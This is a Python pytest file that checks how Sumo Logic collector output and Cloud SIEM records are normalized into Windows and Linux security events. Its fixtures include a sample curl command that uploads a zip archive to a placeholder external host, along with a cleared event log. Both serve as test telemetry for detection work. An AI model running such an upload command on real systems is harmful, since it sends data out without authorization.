"""Sumo Logic: what its collectors send, with and without what a search adds, and the records of Cloud SIEM."""

import json

import pytest

from .reading import Case, Json, check, events, iso, one

TIME = "2026-03-12T09:14:02.123Z"
MS = 1773306842123
CURL = "C:\\Windows\\System32\\curl.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
CREATION: Json = {
    "UtcTime": "2026-03-12 09:14:02.120",
    "Image": CURL,
    "CommandLine": "curl.exe -T a.zip https://x.example/",
    "ParentImage": CMD,
    "ParentCommandLine": "cmd.exe /c up.cmd",
    "User": "CORP\\ann",
    "ProcessId": "5028",
}
CONNECTION: Json = {"Image": CURL, "DestinationIp": "203.0.113.7", "DestinationPort": "443", "Initiated": "true"}


def collected(number: str, channel: str, data: Json, provider: str = "Microsoft-Windows-Sysmon") -> Json:
    """The installed collector's JSON format, with its own notation of a time."""
    return {
        "TimeCreated": "2026-03-12T09:14:02+123000000Z",
        "EventID": number,
        "Task": 1,
        "Correlation": "",
        "Keywords": "None",
        "Channel": channel,
        "Opcode": "Info",
        "Security": {"UserID": "S-1-5-18"},
        "Provider": {"Guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "Name": provider},
        "EventRecordID": 4711,
        "Execution": {"ThreadID": 2896, "ProcessID": 908},
        "Version": 5,
        "Computer": "WS1.corp.example",
        "Level": "Informational",
        "EventData": data,
        "Message": "Process Create: {...}",
    }


def otel(number: int, channel: str, data: object) -> Json:
    """The OpenTelemetry collector's."""
    return {
        "channel": channel,
        "computer": "WS1.corp.example",
        "event_data": data,
        "event_id": {"id": number, "qualifiers": 0},
        "level": "Information",
        "provider": {
            "event_source": "",
            "guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
            "name": channel.split("/")[0],
        },
        "record_id": 4711,
        "system_time": "2026-03-12T09:14:02.1230000Z",
    }


def windows(name: str, record: Json, category: str, fields: Json, shape: str = "sumo_windows", **more: object) -> Case:
    return Case(name, record, shape, category, "windows", "WS1.corp.example", TIME, fields, **more)  # type: ignore[arg-type]


RAW = [
    windows(
        "Sysmon 1", collected("1", SYSMON, CREATION), "process_creation", CREATION | {"UtcTime": None}, service="sysmon"
    ),
    windows("Sysmon 3", collected("3", SYSMON, CONNECTION), "network_connection", CONNECTION),
    windows(
        "Sysmon 11",
        collected("11", SYSMON, {"Image": CURL, "TargetFilename": "C:\\a.zip"}),
        "file_event",
        {"TargetFilename": "C:\\a.zip"},
    ),
    windows("Sysmon 22", collected("22", SYSMON, {"QueryName": "x.example"}), "dns_query", {"QueryName": "x.example"}),
    windows(
        "Security 4688",
        collected("4688", "Security", {"NewProcessName": CURL, "CommandLine": "curl.exe", "NewProcessId": "0x13a4"}),
        "process_creation",
        {"Image": CURL, "CommandLine": "curl.exe", "ProcessId": 5028},
        service="security",
        raw={"NewProcessName": CURL, "EventID": 4688},
    ),
    windows(
        "PowerShell 4104",
        collected("4104", "Microsoft-Windows-PowerShell/Operational", {"ScriptBlockText": "gci -Recurse"}),
        "ps_script",
        {"ScriptBlockText": "gci -Recurse"},
    ),
    windows(
        "with what a search adds",
        collected("1", SYSMON, CREATION) | {"_messageTime": MS, "_receiptTime": MS + 5000, "_sourceHost": "collector"},
        "process_creation",
        {"Image": CURL},
        ingest_time="2026-03-12T09:14:07.123Z",
    ),
    windows(
        "flat, as a search extracts it",
        {
            "_messageTime": str(MS),
            "_receiptTime": str(MS + 5000),
            "_sourceCategory": "windows/sysmon",
            "Computer": "WS1.corp.example",
            "Channel": SYSMON,
            "EventID": "1",
            **{name: value for name, value in CREATION.items() if name != "UtcTime"},
        },
        "process_creation",
        {"Image": CURL, "CommandLine": CREATION["CommandLine"]},
        ingest_time="2026-03-12T09:14:07.123Z",
    ),
    windows(
        "flat, and nothing names the log",
        {
            "_messagetime": str(MS),
            "_sourcehost": "WS1.corp.example",
            "EventID": "3",
            "Image": CURL,
            "DestinationIp": "203.0.113.7",
        },
        "network_connection",
        {"Image": CURL, "DestinationIp": "203.0.113.7"},
    ),
    windows("OpenTelemetry, Sysmon 1", otel(1, SYSMON, CREATION), "process_creation", {"Image": CURL}, "otel_windows"),
    windows(
        "OpenTelemetry, data as a list",
        otel(1, SYSMON, {"data": [{name: value} for name, value in CREATION.items()]}),
        "process_creation",
        {"Image": CURL, "CommandLine": CREATION["CommandLine"]},
        "otel_windows",
    ),
    windows(
        "OpenTelemetry, Security 5156",
        otel(
            5156, "Security", {"Application": "\\device\\x\\curl.exe", "DestAddress": "203.0.113.7", "DestPort": "443"}
        ),
        "network_connection",
        {"Image": "\\device\\x\\curl.exe", "DestinationIp": "203.0.113.7", "DestinationPort": 443},
        "otel_windows",
    ),
]


def record(number: str, **fields: object) -> Json:
    """A record of Cloud SIEM."""
    return {
        "metadata_vendor": "Microsoft",
        "metadata_product": "Windows",
        "metadata_deviceEventId": number,
        "metadata_receiptTime": MS + 5000,
        "timestamp": MS,
        "uid": "0b6a3e1c-1111-5222-9333-444455556666",
        "device_hostname": "ws1",
        "user_username": "ann",
        **fields,
    }


PROCESS: Json = {
    "objectType": "EndpointProcess",
    "action": "ProcessCreate",
    "normalizedAction": "create",
    "normalizedResource": "process",
    "baseImage": CURL,
    "commandLine": "curl.exe -T a.zip https://x.example/",
    "parentBaseImage": CMD,
    "parentCommandLine": "cmd.exe /c up.cmd",
    "pid": 5028,
    "parentPid": 560,
}
NETWORK: Json = {
    "objectType": "Network",
    "baseImage": CURL,
    "srcDevice_ip": "10.0.0.5",
    "srcPort": 50123,
    "dstDevice_ip": "203.0.113.7",
    "dstDevice_hostname": "x.example",
    "dstPort": 443,
}


def cse(name: str, found: Json, category: str, fields: Json, product: str = "windows", host: str = "ws1") -> Case:
    return Case(name, found, "sumo_cse", category, product, host, TIME, fields, ingest_time="2026-03-12T09:14:07.123Z")


CSE = [
    cse(
        "Sysmon 1",
        record(f"{SYSMON}-1", **PROCESS),
        "process_creation",
        {
            "Image": CURL,
            "CommandLine": PROCESS["commandLine"],
            "ParentImage": CMD,
            "ParentCommandLine": "cmd.exe /c up.cmd",
            "User": "ann",
            "ProcessId": 5028,
            "ParentProcessId": 560,
        },
    ),
    cse(
        "Security 4688, which has no action",
        record(
            "Security-4688",
            objectType="EndpointProcess",
            baseImage=CURL,
            commandLine="curl.exe",
            parentBaseImage=CMD,
            user_authDomain="CORP",
        ),
        "process_creation",
        {"Image": CURL, "ParentImage": CMD, "User": "CORP\\ann"},
    ),
    cse(
        "Sysmon 3, whose host is the source",
        {key: value for key, value in record(f"{SYSMON}-3", **NETWORK).items() if key != "device_hostname"}
        | {"srcDevice_hostname": "ws1"},
        "network_connection",
        {"Image": CURL, "DestinationIp": "203.0.113.7", "DestinationPort": 443, "SourceIp": "10.0.0.5"},
    ),
    cse(
        "Sysmon 3 of a host without a name",
        {key: value for key, value in record(f"{SYSMON}-3", **NETWORK).items() if key != "device_hostname"}
        | {"srcDevice_hostname": "-"},
        "network_connection",
        {"Image": CURL},
        host="10.0.0.5",
    ),
    cse(
        "Security 5156",
        record("Security-5156", application="\\device\\x\\curl.exe", dstDevice_ip="203.0.113.7", dstPort=443),
        "network_connection",
        {"Image": "\\device\\x\\curl.exe", "DestinationPort": 443},
    ),
    cse(
        "Sysmon 11",
        record(
            f"{SYSMON}-11", action="FileCreate", normalizedAction="create", normalizedResource="file", file_path="C:\\a"
        ),
        "file_event",
        {"TargetFilename": "C:\\a"},
    ),
    cse(
        "Sysmon 23",
        record(
            f"{SYSMON}-23", action="FileDelete", normalizedAction="delete", normalizedResource="file", file_path="C:\\a"
        ),
        "file_delete",
        {"TargetFilename": "C:\\a"},
    ),
    cse(
        "Sysmon 22",
        record(f"{SYSMON}-22", dns_query="x.example", baseImage=CURL),
        "dns_query",
        {"QueryName": "x.example"},
    ),
    cse(
        "PowerShell 4104",
        record("Microsoft-Windows-PowerShell/Operational-4104", commandLine="gci -Recurse", baseImage="powershell.exe"),
        "ps_script",
        {"ScriptBlockText": "gci -Recurse"},
    ),
    cse(
        "Sysmon for Linux 1",
        record("Linux-Sysmon/Operational-1", **PROCESS)
        | {"metadata_product": "Sysmon for Linux", "baseImage": "/usr/bin/curl"},
        "process_creation",
        {"Image": "/usr/bin/curl"},
        product="linux",
    ),
]


@pytest.mark.parametrize("case", [*RAW, *CSE], ids=lambda case: f"{case.shape}: {case.name}")
def test_a_record_becomes_its_event(case):
    check(case)


def test_a_message_of_a_search_is_read_from_its_raw_text_and_keeps_its_times():
    message = {
        "_raw": json.dumps(collected("1", SYSMON, CREATION)),
        "_messagetime": str(MS),
        "_receipttime": str(MS + 5000),
        "_sourcehost": "collector",
    }
    (event,) = events({"fields": [], "messages": [{"map": message}]})
    assert (event.shape, event.category, event.host) == ("sumo_windows", "process_creation", "WS1.corp.example")
    assert iso(event.time) == TIME
    assert iso(event.ingest_time) == "2026-03-12T09:14:07.123Z"
    assert event.id == one(collected("1", SYSMON, CREATION)).id


def test_an_event_log_that_was_cleared_has_its_user_data():
    cleared = collected("1102", "Security", {}, "Microsoft-Windows-Eventlog")
    cleared["UserData"] = {"LogFileCleared": {"SubjectUserName": "ann"}}
    event = one(cleared)
    assert (event.service, event.raw["SubjectUserName"]) == ("security", "ann")
